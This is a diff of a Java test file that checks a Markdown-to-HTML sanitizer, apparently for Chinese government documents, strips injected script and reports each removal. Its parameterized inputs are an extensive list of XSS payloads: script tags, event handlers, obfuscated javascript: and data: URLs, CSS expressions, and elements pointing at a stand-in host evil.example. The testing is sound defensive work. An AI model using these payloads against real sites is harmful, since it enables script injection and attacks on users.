@@ -9,9 +9,9 @@ import java.util.Locale;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Attribute;
 import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
-import org.junit.jupiter.api.Test;
 
 /** Each way of smuggling script into a body, and what is left of it in the page. */
 class ScriptInjectionTest {
@@ -25,13 +25,18 @@ class ScriptInjectionTest {
     /** The invariant every body must keep: nothing in it can run. */
     static void assertInert(String html) {
         var doc = Jsoup.parseBodyFragment(html);
-        assertTrue(doc.select("script, iframe, frame, object, embed, svg, math, style, link, meta, base, form")
-                .isEmpty(), html);
+        assertTrue(
+                doc.select(
+                                "script, iframe, frame, object, embed, svg, math, style, link, meta, base, form")
+                        .isEmpty(),
+                html);
         for (Element e : doc.getAllElements()) {
             for (Attribute a : e.attributes()) {
                 String key = a.getKey().toLowerCase(Locale.ROOT);
                 assertFalse(key.startsWith("on"), () -> key + " in " + html);
-                assertFalse(key.equals("style") || key.equals("srcdoc") || key.equals("formaction"), html);
+                assertFalse(
+                        key.equals("style") || key.equals("srcdoc") || key.equals("formaction"),
+                        html);
                 String v = SafeUrls.browserView(a.getValue()).toLowerCase(Locale.ROOT);
                 assertFalse(v.startsWith("javascript:") || v.startsWith("vbscript:"), html);
                 if (key.equals("href")) {
@@ -45,56 +50,59 @@ class ScriptInjectionTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-            "正文<script>alert(1)</script>结束",
-            "<script>\nalert(1)\n</script>",
-            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-            "<img src=x onerror=alert(1)>",
-            "<img src=\"x\" ONERROR=\"alert(1)\">",
-            "<a href=\"javascript:alert(1)\">点</a>",
-            "<a href=\"jav&#x09;ascript:alert(1)\">点</a>",
-            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点</a>",
-            "<iframe src=\"https://evil.example/\"></iframe>",
-            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-            "<svg onload=alert(1)><script>alert(2)</script></svg>",
-            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-            "<math><mtext><script>alert(1)</script></mtext></math>",
-            "<p style=\"background:url(javascript:alert(1))\">样式</p>",
-            "<div style=\"width: expression(alert(1))\">IE</div>",
-            "<style>body{background:url(javascript:alert(1))}</style>",
-            "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
-            "<form action=\"https://evil.example/\"><input name=x><button formaction=javascript:alert(1)>提交</button></form>",
-            "<base href=\"https://evil.example/\">",
-            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-            "<details open ontoggle=alert(1)>",
-            "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
-            "<!-- <script>alert(1)</script> -->",
-            "<scr<script>ipt>alert(1)</script>",
-    })
+    @ValueSource(
+            strings = {
+                "正文<script>alert(1)</script>结束",
+                "<script>\nalert(1)\n</script>",
+                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+                "<img src=x onerror=alert(1)>",
+                "<img src=\"x\" ONERROR=\"alert(1)\">",
+                "<a href=\"javascript:alert(1)\">点</a>",
+                "<a href=\"jav&#x09;ascript:alert(1)\">点</a>",
+                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点</a>",
+                "<iframe src=\"https://evil.example/\"></iframe>",
+                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+                "<svg onload=alert(1)><script>alert(2)</script></svg>",
+                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+                "<math><mtext><script>alert(1)</script></mtext></math>",
+                "<p style=\"background:url(javascript:alert(1))\">样式</p>",
+                "<div style=\"width: expression(alert(1))\">IE</div>",
+                "<style>body{background:url(javascript:alert(1))}</style>",
+                "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
+                "<form action=\"https://evil.example/\"><input name=x><button formaction=javascript:alert(1)>提交</button></form>",
+                "<base href=\"https://evil.example/\">",
+                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+                "<details open ontoggle=alert(1)>",
+                "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
+                "<!-- <script>alert(1)</script> -->",
+                "<scr<script>ipt>alert(1)</script>",
+            })
     void rawHtmlVectorIsRemovedAndNamed(String markdown) {
         Body b = read(markdown + "\n");
         assertInert(b.html());
         assertFalse(b.rawHtml().isEmpty(), "raw HTML must be recorded");
-        assertTrue(b.rawHtml().stream().anyMatch(r -> !r.removed().isEmpty()),
+        assertTrue(
+                b.rawHtml().stream().anyMatch(r -> !r.removed().isEmpty()),
                 () -> "what was removed must be named: " + b.rawHtml());
         assertEquals(5, b.rawHtml().get(0).line());
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-            "[点我](javascript:alert(1))|javascript",
-            "[点我](JaVaScRiPt:alert(1))|javascript",
-            "[点我](&#106;avascript:alert(1))|javascript",
-            "[点我](<java\tscript:alert(1)>)|javascript",
-            "[点我](vbscript:msgbox(1))|vbscript",
-            "[点我](data:text/html;base64,PHNjcmlwdD4=)|data:",
-            "![图](javascript:alert(1))|javascript",
-            "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)|data:",
-            "![图](https://tracker.example/pixel.png)|tracker",
-            "![图](//tracker.example/pixel.png)|tracker",
-            "[点我]: javascript:alert(1)\n\n[点我]|javascript",
-            "<javascript:alert(1)>|javascript",
-    })
+    @ValueSource(
+            strings = {
+                "[点我](javascript:alert(1))|javascript",
+                "[点我](JaVaScRiPt:alert(1))|javascript",
+                "[点我](&#106;avascript:alert(1))|javascript",
+                "[点我](<java\tscript:alert(1)>)|javascript",
+                "[点我](vbscript:msgbox(1))|vbscript",
+                "[点我](data:text/html;base64,PHNjcmlwdD4=)|data:",
+                "![图](javascript:alert(1))|javascript",
+                "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)|data:",
+                "![图](https://tracker.example/pixel.png)|tracker",
+                "![图](//tracker.example/pixel.png)|tracker",
+                "[点我]: javascript:alert(1)\n\n[点我]|javascript",
+                "<javascript:alert(1)>|javascript",
+            })
     void markdownLinkWithUnsafeAddressLosesIt(String testCase) {
         String markdown = testCase.substring(0, testCase.lastIndexOf('|'));
         String gone = testCase.substring(testCase.lastIndexOf('|') + 1);
@@ -104,7 +112,8 @@ class ScriptInjectionTest {
             for (Attribute a : e.attributes()) {
                 assertFalse(a.getValue().toLowerCase(Locale.ROOT).contains(gone), b.html());
             }
-            // an address that was taken away leaves no empty href or src (which would point at the page itself)
+            // an address that was taken away leaves no empty href or src (which would point at the
+            // page itself)
             assertFalse(e.hasAttr("href") && e.attr("href").isEmpty(), b.html());
             assertFalse(e.hasAttr("src") && e.attr("src").isEmpty(), b.html());
         }
@@ -112,15 +121,19 @@ class ScriptInjectionTest {
 
     @Test
     void safeLinksAndImagesStayAsWritten() {
-        Body b = read("""
+        Body b =
+                read(
+                        """
                 见[上一年的方案](../2021/fangan.md#第二条)、[网站](https://www.gov.cn/)、[来信](mailto:xxgk@anle.gov.cn)、\
                 [电话](tel:0530-1234567)。
 
                 ![示意图](map.png) ![小图](data:image/png;base64,iVBORw0KGgo=)
                 """);
         String html = b.html();
-        assertTrue(html.contains("href=\"../2021/fangan.md#%E7%AC%AC%E4%BA%8C%E6%9D%A1\"")
-                || html.contains("href=\"../2021/fangan.md#第二条\""), html);
+        assertTrue(
+                html.contains("href=\"../2021/fangan.md#%E7%AC%AC%E4%BA%8C%E6%9D%A1\"")
+                        || html.contains("href=\"../2021/fangan.md#第二条\""),
+                html);
         assertTrue(html.contains("href=\"https://www.gov.cn/\""), html);
         assertTrue(html.contains("href=\"mailto:xxgk@anle.gov.cn\""), html);
         assertTrue(html.contains("href=\"tel:0530-1234567\""), html);
@@ -131,7 +144,8 @@ class ScriptInjectionTest {
 
     @Test
     void relativeLinksSurviveWhenRawHtmlIsAlsoPresent() {
-        // regression: with raw HTML present, cleaning with an empty base URI dropped every relative href
+        // regression: with raw HTML present, cleaning with an empty base URI dropped every relative
+        // href
         Body b = read("第一段<br>换行，见[附件说明](../2021/fangan.md)和![图](map.png)。\n");
         assertTrue(b.html().contains("href=\"../2021/fangan.md\""), b.html());
         assertTrue(b.html().contains("src=\"map.png\""), b.html());
@@ -143,12 +157,16 @@ class ScriptInjectionTest {
         Body b = read("上标 10<sup>3</sup> 与换行<br>以及<em>强调</em>\n");
         assertTrue(b.html().contains("<sup>3</sup>"), b.html());
         assertFalse(b.rawHtml().isEmpty());
-        assertTrue(b.rawHtml().stream().allMatch(r -> r.removed().isEmpty()), () -> b.rawHtml().toString());
+        assertTrue(
+                b.rawHtml().stream().allMatch(r -> r.removed().isEmpty()),
+                () -> b.rawHtml().toString());
     }
 
     @Test
     void removalsAreNamedForTheEditor() {
-        Body b = read("<img src=x onerror=alert(1)>\n\n段落<script>alert(1)</script>\n\n<p style=\"color:red\">红字</p>\n");
+        Body b =
+                read(
+                        "<img src=x onerror=alert(1)>\n\n段落<script>alert(1)</script>\n\n<p style=\"color:red\">红字</p>\n");
         List<String> all = b.rawHtml().stream().flatMap(r -> r.removed().stream()).toList();
         assertTrue(all.contains("img 的 onerror 事件属性（脚本）"), all.toString());
         assertTrue(all.contains("<script> 元素"), all.toString());
